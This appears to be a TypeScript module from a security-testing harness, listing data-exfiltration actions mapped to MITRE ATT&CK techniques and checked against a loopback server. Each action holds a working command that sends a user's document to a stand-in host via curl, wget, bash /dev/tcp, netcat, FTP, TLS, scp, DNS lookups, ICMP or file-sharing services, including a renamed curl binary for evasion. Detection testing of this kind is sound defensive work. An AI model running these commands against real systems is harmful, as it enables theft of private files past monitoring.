import type { Action } from '../action.ts'
import { received, server, udpServer, webServer } from '../loopback-server.ts'

const secret = 'letter'
const file = '/home/ann/Documents/letter.txt'
const named = (name: string) => `echo 198.51.100.7 ${name} >>/etc/hosts\n${webServer(80)}`

/** Data sent away. */
export const exfiltration: readonly Action[] = [
  {
    id: 'upload-form',
    title: 'File sent by a form of curl',
    technique: 'T1048.003',
    needs: ['curl'],
    before: webServer(80),
    run: `curl -s -F f=@${file} http://198.51.100.7/u`,
    effect: received(secret),
  },
  {
    id: 'upload-put',
    title: 'File sent by curl',
    technique: 'T1048.003',
    needs: ['curl'],
    before: webServer(80),
    run: `curl -s -T ${file} http://198.51.100.7/u`,
    effect: received('PUT /u'),
  },
  {
    id: 'upload-wget',
    title: 'File sent by wget',
    technique: 'T1048.003',
    needs: ['wget'],
    before: webServer(80),
    run: `wget -q -O - --post-file=${file} http://198.51.100.7/u`,
    effect: received(secret),
  },
  {
    id: 'upload-renamed',
    title: 'File sent by a renamed copy of curl',
    technique: 'T1048.003',
    needs: ['curl'],
    before: webServer(80),
    run: `cp "$(command -v curl)" /opt/update; /opt/update -s --data-binary @${file} http://198.51.100.7/u`,
    effect: received(secret),
  },
  {
    id: 'upload-python',
    title: 'File sent by a Python program',
    technique: 'T1041',
    before: webServer(80),
    program: {
      language: 'python',
      text: `import urllib.request as u\nu.urlopen("http://198.51.100.7/u", open("${file}", "rb").read()).read()`,
    },
    run: 'python3 $PROGRAM',
    effect: received(secret),
    blind: 'a connection like any other',
  },
  {
    id: 'upload-bash',
    title: 'File sent by redirections of bash',
    technique: 'T1048.003',
    shell: 'bash',
    before: server(8000),
    run: `cat ${file} >/dev/tcp/198.51.100.7/8000`,
    effect: received(secret),
    blind: 'a connection like any other',
  },
  {
    id: 'upload-bash-command',
    title: 'File sent by redirections in an argument of bash',
    technique: 'T1048.003',
    needs: ['bash'],
    before: server(8000),
    run: `bash -c 'cat ${file} >/dev/tcp/198.51.100.7/8000'`,
    effect: received(secret),
  },
  {
    id: 'upload-netcat',
    title: 'Archive sent by netcat of busybox',
    technique: 'T1048.003',
    needs: ['busybox'],
    before: server(8000),
    run: 'tar -c /home/ann/Documents | timeout 2 busybox nc 198.51.100.7 8000',
    effect: received(secret),
  },
  {
    id: 'upload-ftp',
    title: 'File sent by FTP of busybox',
    technique: 'T1048.003',
    needs: ['busybox'],
    before: server(21, '220 hello\r\n'),
    run: `timeout 1 busybox ftpput -u a -p b 198.51.100.7 f ${file}`,
    effect: received('USER a'),
  },
  {
    id: 'upload-tls',
    title: 'File sent by a TLS client',
    technique: 'T1048.002',
    needs: ['openssl'],
    before: `cd /run
openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -subj /CN=x -days 1 2>/dev/null
sleep 5 | openssl s_server -quiet -accept 443 -key k -cert c -naccept 1 >/run/got 2>/dev/null &
sleep 0.3`,
    run: `(cat ${file}; sleep 0.5) | timeout 3 openssl s_client -connect 198.51.100.7:443`,
    effect: received(secret),
  },
  {
    id: 'upload-c',
    title: 'File sent by a compiled program',
    technique: 'T1041',
    before: server(8000),
    program: {
      language: 'c',
      text: `#include <arpa/inet.h>
#include <fcntl.h>
#include <unistd.h>
int main() {
  struct sockaddr_in a = {AF_INET, htons(8000)};
  a.sin_addr.s_addr = inet_addr("198.51.100.7");
  char b[99];
  int s = socket(AF_INET, SOCK_STREAM, 0);
  connect(s, (struct sockaddr *)&a, sizeof a);
  return write(s, b, read(open("${file}", O_RDONLY), b, 99)) < 1;
}`,
    },
    run: '$PROGRAM',
    effect: received(secret),
    blind: 'a connection like any other',
  },
  {
    id: 'names-bash',
    title: 'File in questions for names',
    technique: 'T1048.003',
    needs: ['xxd'],
    before: udpServer(53),
    run: `for each in $(xxd -p ${file}); do getent hosts $each.x.example; busybox nslookup $each.x.example 198.51.100.7; done; :`,
    effect: received('6c6574746572'),
  },
  {
    id: 'ping-payload',
    title: 'Data in ping messages',
    technique: 'T1048.003',
    program: {
      language: 'perl',
      text: `use Socket; socket S, PF_INET, SOCK_RAW, 1 or die;
$p = pack("CCnnn", 8, 0, 0, 1, 1) . "letters!"; $c = 0; $c += $_ for unpack("n*", $p); $c = ($c >> 16) + ($c & 65535);
substr($p, 2, 2) = pack("n", ~$c & 65535); send S, $p, 0, sockaddr_in(0, inet_aton("198.51.100.7")) or die;`,
    },
    run: 'perl $PROGRAM',
  },
  {
    id: 'file-split',
    title: 'File split into parts',
    technique: 'T1030',
    needs: ['split'],
    run: `cd /tmp && split -b 2 ${file} part`,
    effect: '[ -s /tmp/partaa ]',
  },
  {
    id: 'paste-service-upload',
    title: 'File sent to a service for texts',
    technique: 'T1567.003',
    needs: ['curl'],
    before: named('transfer.sh'),
    run: `curl -s --upload-file ${file} http://transfer.sh/letter`,
    effect: received('transfer.sh'),
  },
  {
    id: 'repository-upload',
    title: 'File sent to a code repository',
    technique: 'T1567.001',
    needs: ['curl'],
    before: named('api.github.com'),
    run: `curl -s -X POST -d @${file} http://api.github.com/gists`,
    effect: received('gists'),
  },
  {
    id: 'cloud-upload',
    title: 'File sent to cloud storage',
    technique: 'T1567.002',
    needs: ['curl'],
    before: named('bucket.s3.amazonaws.com'),
    run: `curl -s -T ${file} http://bucket.s3.amazonaws.com/letter`,
    effect: received('PUT /letter'),
  },
  {
    id: 'scp-upload',
    title: 'File sent by scp',
    technique: 'T1048.002',
    needs: ['scp'],
    before: server(22),
    run: `timeout 1 scp -o BatchMode=yes ${file} ann@198.51.100.7:/tmp/`,
    effect: received('SSH-2.0'),
  },
]
